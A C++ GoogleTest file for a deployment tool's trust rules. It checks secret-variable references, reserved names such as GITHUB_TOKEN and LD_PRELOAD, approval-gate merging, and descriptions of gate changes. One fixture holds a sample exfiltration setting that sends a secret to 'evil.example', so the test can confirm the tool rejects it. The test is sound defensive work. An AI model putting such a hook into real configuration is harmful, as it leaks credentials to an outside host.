// Trusted rules, the pure parts: references and allowed variables, the stricter of
// two gates, an environment as the trusted copy rules it, gate changes in words.
#include "converge/config/trust.hpp"

#include <gtest/gtest.h>

namespace converge::config {
namespace {

Config config(std::string_view text) {
  auto c = parse(text, "converge.yaml");
  EXPECT_TRUE(c) << c.error().to_string();
  return c.value_or(Config{});
}

constexpr std::string_view kTrusted = R"(manifest:
  url: ${MANIFEST_URL}
environments:
  - {name: dev, branch: "dev/**"}
  - name: prod
    branch: main
    gates: {approvals: 2, distinct_approver: true, plan_pinning: true}
    promote_from: dev
targets:
  - name: db
    provider: sql
    settings:
      url: sqlite:///${CONVERGE_ENV}.db
      password: ${DEV_PASSWORD:-x}
    overrides:
      prod:
        url: ${PROD_DB_URL}
        password: ${PROD_PASSWORD}
  - name: reports
    provider: sql
    environments: [prod]
    settings: {url: "$${LITERAL}", list: ["${REPORTS_KEY}"]}
)";

std::vector<std::string> names(const std::vector<VariableReference>& refs) {
  std::vector<std::string> out;
  for (const auto& r : refs) out.push_back(r.name);
  return out;
}

TEST(TrustVariables, ReferencesFollowOverridesAndSkipBuiltinsAndEscapes) {
  auto c = config(kTrusted);
  EXPECT_EQ(names(variable_references(c, "dev")), (std::vector<std::string>{"DEV_PASSWORD", "MANIFEST_URL"}));
  auto prod = variable_references(c, "prod");
  EXPECT_EQ(names(prod), (std::vector<std::string>{"PROD_PASSWORD", "PROD_DB_URL", "REPORTS_KEY", "MANIFEST_URL"}));
  EXPECT_EQ(prod[0].where.line, 18);
  EXPECT_TRUE(variable_references(c, "qa").empty());
}

TEST(TrustVariables, AllowedNamesAreTheDeclaredListElseTheReferencedOnes) {
  auto c = config(kTrusted);
  EXPECT_EQ(allowed_variables(c, "prod"), (NameSet{"MANIFEST_URL", "PROD_DB_URL", "PROD_PASSWORD", "REPORTS_KEY"}));
  auto declared = config("environments:\n  - {name: prod, branch: main, secrets: [ONLY_THIS]}\n"
                         "targets:\n  - {name: db, provider: sql, settings: {url: '${OTHER}'}}\n");
  EXPECT_EQ(allowed_variables(declared, "prod"), (NameSet{"ONLY_THIS"}));
  EXPECT_TRUE(allowed_variables(declared, "qa").empty());
  auto reserved = config("environments:\n  - {name: prod, branch: main}\n"
                         "targets:\n  - {name: db, provider: sql, settings: {url: '${GITHUB_TOKEN}${INPUT_TOKEN}'}}\n");
  EXPECT_TRUE(allowed_variables(reserved, "prod").empty()) << "a reference never makes a reserved name allowed";
}

TEST(TrustVariables, AnUndeclaredOrReservedReferenceIsAnErrorNamingItAndItsLine) {
  auto proposed = config(
      "environments:\n  - {name: prod, branch: main}\ntargets:\n  - name: db\n    provider: sql\n    settings:\n"
      "      url: ${PROD_DB_URL}\n      hook: https://evil.example/?t=${STOLEN}\n");
  auto e = check_variables(proposed, "prod", NameSet{"PROD_DB_URL"});
  ASSERT_FALSE(e);
  EXPECT_EQ(e.error().where->line, 8);
  EXPECT_EQ(e.error().message,
            "variable STOLEN is not declared in the trusted converge.yaml for prod (list it in the environment's "
            "`secrets:` on the environment branch first)");
  auto token = config("environments:\n  - {name: prod, branch: main}\ntargets:\n  - name: db\n    provider: sql\n"
                      "    settings: {url: '${GITHUB_TOKEN:-}'}\n");
  auto t = check_variables(token, "prod", NameSet{"GITHUB_TOKEN"});
  ASSERT_FALSE(t);
  EXPECT_NE(t.error().message.find("variable GITHUB_TOKEN is reserved"), std::string::npos) << t.error().message;
  EXPECT_TRUE(check_variables(proposed, "prod", NameSet{"PROD_DB_URL", "STOLEN"}));
}

TEST(TrustVariables, ATargetsSecretsSettingReferencesTheNamesItLists) {
  auto proposed = config("environments:\n  - {name: prod, branch: main}\ntargets:\n  - name: bi\n    provider: assets\n"
                         "    settings:\n      url: https://bi\n      secrets: [BI_PASSWORD, INPUT_TOKEN]\n");
  EXPECT_EQ(names(variable_references(proposed, "prod")), (std::vector<std::string>{"BI_PASSWORD", "INPUT_TOKEN"}));
  auto e = check_variables(proposed, "prod", NameSet{"BI_PASSWORD"});
  ASSERT_FALSE(e);
  EXPECT_EQ(e.error().where->line, 8);
  EXPECT_NE(e.error().message.find("variable INPUT_TOKEN is reserved"), std::string::npos);
}

TEST(TrustVariables, ReservedNamesCoverTheRunnerGitHubAndInputs) {
  for (auto n : {"GITHUB_TOKEN", "github_token", "INPUT_TOKEN", "ACTIONS_RUNTIME_TOKEN", "RUNNER_TEMP", "CONVERGE_DEBUG",
                 "LD_PRELOAD", "PATH", "HOME"})
    EXPECT_TRUE(reserved_variable(n)) << n;
  for (auto n : {"DATABASE_URL", "PROD_DB", "GITHUBISH", "TOKEN"}) EXPECT_FALSE(reserved_variable(n)) << n;
}

TEST(TrustGates, TheStricterOfTwoGatesTakesEachFieldsStricterValue) {
  Gates a{.approvals = 2, .distinct_approver = false, .plan_pinning = true};
  Gates b{.approvals = 0, .distinct_approver = true, .plan_pinning = false};
  auto s = stricter(a, b);
  EXPECT_EQ(s.approvals, 2);
  EXPECT_TRUE(s.distinct_approver);
  EXPECT_TRUE(s.plan_pinning);
  auto weak = stricter(Gates{}, Gates{});
  EXPECT_EQ(weak.approvals, 0);
  EXPECT_FALSE(weak.distinct_approver);
  EXPECT_FALSE(weak.plan_pinning);
  EXPECT_EQ(stricter(b, a).approvals, 2) << "order does not matter";
  Gates allows{.allow_large_pull_requests = true};
  EXPECT_FALSE(stricter(allows, Gates{}).allow_large_pull_requests) << "an allowance needs both copies";
  EXPECT_FALSE(stricter(Gates{}, allows).allow_large_pull_requests);
  EXPECT_TRUE(stricter(allows, allows).allow_large_pull_requests);
}

TEST(TrustGates, AChangeCanTightenButNeverLoosenTheEnvironmentThatJudgesIt) {
  auto trusted = config(kTrusted);
  auto proposed = config(R"(environments:
  - {name: dev, branch: "dev/**"}
  - name: prod
    branch: "**"
    gates: {approvals: 3}
    secrets: [EVERYTHING]
targets:
  - {name: db, provider: sql}
)");
  auto env = effective_environment(*trusted.find_environment("prod"), *proposed.find_environment("prod"));
  EXPECT_EQ(env.gates.approvals, 3);
  EXPECT_TRUE(env.gates.distinct_approver);
  EXPECT_TRUE(env.gates.plan_pinning);
  EXPECT_EQ(env.branch, "main");
  EXPECT_EQ(env.promote_from, "dev");
  EXPECT_FALSE(env.secrets) << "the secrets list is the trusted one";
}

TEST(TrustGateChanges, EveryRuleChangeIsOneLineAndSettingsAreNotRules) {
  auto trusted = config(kTrusted);
  EXPECT_TRUE(describe_gate_changes(trusted, trusted).empty());
  auto proposed = config(R"(manifest:
  url: ${MANIFEST_URL}
environments:
  - {name: dev, branch: "dev/*"}
  - name: prod
    branch: main
    gates: {approvals: 0, distinct_approver: true}
  - {name: qa, branch: qa}
targets:
  - name: db
    provider: sql
    settings:
      url: sqlite:///other.db
      password: ${DEV_PASSWORD:-x}
    overrides:
      prod:
        url: ${PROD_DB_URL}
        password: ${PROD_PASSWORD}
        token: ${GITHUB_TOKEN}
  - name: reports
    provider: sql
    environments: [prod]
    settings: {list: ["${REPORTS_KEY}", "${EXTRA}"]}
)");
  EXPECT_EQ(describe_gate_changes(trusted, proposed),
            (std::vector<std::string>{
                "dev: branch dev/** → dev/*",
                "prod: approvals 2 → 0",
                "prod: plan_pinning true → false",
                "prod: promote_from dev → (none)",
                "prod: secrets MANIFEST_URL, PROD_DB_URL, PROD_PASSWORD, REPORTS_KEY → EXTRA, MANIFEST_URL, "
                "PROD_DB_URL, PROD_PASSWORD, REPORTS_KEY",
                "qa: new environment (the trusted converge.yaml does not have it: it cannot be applied until this "
                "change is on the environment branch)"}));
  auto removed = config("environments:\n  - {name: dev, branch: \"dev/**\"}\ntargets:\n  - {name: db, provider: sql}\n");
  auto lines = describe_gate_changes(trusted, removed);
  ASSERT_FALSE(lines.empty());
  EXPECT_EQ(lines.back(), "prod: environment removed");
}

}  // namespace
}  // namespace converge::config
